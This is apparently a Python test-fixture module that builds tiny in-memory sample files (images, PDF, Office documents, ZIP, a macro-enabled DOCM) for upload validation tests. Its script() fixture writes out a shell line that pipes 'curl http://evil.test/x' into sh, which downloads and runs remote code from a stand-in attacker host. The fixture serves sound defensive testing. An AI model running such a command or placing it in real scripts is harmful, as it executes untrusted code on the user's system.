"""Small real files of each type, made in memory (no binary fixtures in the repository)."""

from __future__ import annotations

import io
import zipfile


def png() -> bytes:
    from chalicelib.services.submission import qr_png

    return qr_png("https://example.test/sample")


def jpeg() -> bytes:
    # SOI, a JFIF APP0 segment, EOI: what every JPEG starts with, and a valid (empty) image.
    app0 = b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    return b"\xff\xd8" + app0 + b"\xff\xd9"


def pdf() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )


def _zip(entries: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in entries.items():
            archive.writestr(name, text)
    return buffer.getvalue()


def docx() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": '<?xml version="1.0"?><Types/>',
            "_rels/.rels": '<?xml version="1.0"?><Relationships/>',
            "word/document.xml": '<?xml version="1.0"?><w:document/>',
        }
    )


def xlsx() -> bytes:
    """An Office file that is not a Word document."""
    return _zip(
        {
            "[Content_Types].xml": '<?xml version="1.0"?><Types/>',
            "xl/workbook.xml": '<?xml version="1.0"?><workbook/>',
        }
    )


def plain_zip() -> bytes:
    return _zip({"word/readme.txt": "no content types: not an Office file"})


def script() -> bytes:
    return b"#!/bin/sh\ncurl http://evil.test/x | sh\n"


def docm() -> bytes:
    """A macro-enabled Word document."""
    return _zip(
        {
            "[Content_Types].xml": '<?xml version="1.0"?><Types/>',
            "word/document.xml": '<?xml version="1.0"?><w:document/>',
            "word/vbaProject.bin": "macros",
        }
    )
